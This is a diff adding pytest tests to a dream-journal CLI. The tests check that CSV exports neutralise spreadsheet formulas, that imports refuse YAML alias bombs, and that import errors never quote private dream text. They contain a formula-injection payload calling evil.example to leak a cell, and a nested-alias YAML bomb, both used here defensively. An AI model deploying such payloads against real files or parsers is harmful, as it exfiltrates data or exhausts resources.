@@ -366,6 +366,78 @@ def test_add_refuses_to_write_into_a_journal_check_found_damaged(cli, db_path):
     assert file_hash(db_path) == before
 
 
+# -- 4. round trips that lose text; CSV formula injection ---------------------------------------
+
+def test_csv_export_neutralises_formulas_and_round_trips_tags_and_long_dreams(cli, db_path, tmp_path):
+    import csv
+
+    long_body = "I walked and walked. " * 8000  # 168,000 characters: over csv's default field limit
+    add(cli, '=HYPERLINK("http://evil.example/?d="&C3,"click")', "--title", "@SUM(1)", "-t", "a, b", "-t", "c; d",
+        "-t", "back\\slash", "-c", "+1 day")
+    add(cli, long_body, "-t", "'quoted")
+    out = tmp_path / "journal.csv"
+    assert cli("export", "-f", "csv", "-o", out).exit_code == 0
+    csv.field_size_limit(10**7)
+    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
+    for row in rows:
+        for column in ("title", "text", "tags", "context"):
+            assert not row[column].startswith(("=", "+", "-", "@")), (column, row[column][:20])
+    copy = tmp_path / "copy.db"
+    result = cli("import", out, "--db", copy)
+    assert result.exit_code == 0, result.stderr
+    def fields(db):
+        return sorted((d["body"], d["title"], d["tags"], d["context"])
+                      for d in json.loads(cli("list", "--json", "--db", db).stdout))
+
+    assert fields(copy) == fields(db_path)
+
+
+def test_split_notes_then_import_keep_every_line_of_a_dream(cli, db_path, tmp_path):
+    from dreamly.formats import NOTES_MARKER
+
+    body = (f"The first line.\n{NOTES_MARKER}\nA line after the marker.\n\\{NOTES_MARKER}\n"
+            f"In the middle of a line {NOTES_MARKER} too.\nThe end.")
+    add(cli, body)
+    assert cli("rehearse", "1", f"a new ending\n{NOTES_MARKER}\nmore").exit_code == 0  # history with the marker
+    folder = tmp_path / "notes"
+    assert cli("export", "--split", "-o", folder).exit_code == 0
+    result = cli("import", folder, "--db", tmp_path / "copy.db")
+    assert result.exit_code == 0, result.stderr
+    assert json.loads(cli("show", "1", "--json", "--db", tmp_path / "copy.db").stdout)["body"] == body
+
+
+
+
+def test_a_yaml_alias_bomb_in_front_matter_is_refused_at_once(cli, db_path, tmp_path):
+    note = tmp_path / "bomb.md"
+    levels = ['a: &a ["x","x","x","x","x","x","x","x","x"]'] + [
+        f'{chr(98 + i)}: &{chr(98 + i)} [' + ",".join([f"*{chr(97 + i)}"] * 9) + "]" for i in range(8)]
+    note.write_text("---\ndate: 2026-01-01\n" + "\n".join(levels) + "\n---\nA dream.\n", encoding="utf-8")
+    line = one_error_line(cli("import", note))
+    assert "alias" in line
+    assert not db_path.exists() or query(db_path, "SELECT count(*) FROM dreams")[0][0] == 0
+
+
+def test_import_errors_never_quote_a_field(cli, db_path, tmp_path):
+    secret = "I dreamt of my sister's secret"
+    swapped = tmp_path / "swapped.csv"
+    swapped.write_text(f"date,text\n{secret},2026-01-01\n", encoding="utf-8")  # the columns swapped
+    line = one_error_line(cli("import", swapped))
+    assert "secret" not in line and "sister" not in line
+    headerless = tmp_path / "headerless.csv"
+    headerless.write_text(f"2026-01-01,{secret}\n", encoding="utf-8")
+    line = one_error_line(cli("import", headerless))
+    assert "secret" not in line and "sister" not in line
+    feeling = tmp_path / "feeling.csv"
+    feeling.write_text(f"date,text,emotions\n2026-01-01,a dream,{secret}:9\n", encoding="utf-8")
+    line = one_error_line(cli("import", feeling))
+    assert "secret" not in line and "sister" not in line
+    stamp = tmp_path / "dreams.json"
+    stamp.write_text(json.dumps({"dreamly": 1, "dreams": [{"dreamt_on": secret, "body": "a dream"}]}), encoding="utf-8")
+    line = one_error_line(cli("import", stamp))
+    assert "secret" not in line and "sister" not in line
+
+
 # -- 6. analysis state (issue item "analysis that is silently stale") -----------------------------
 
 
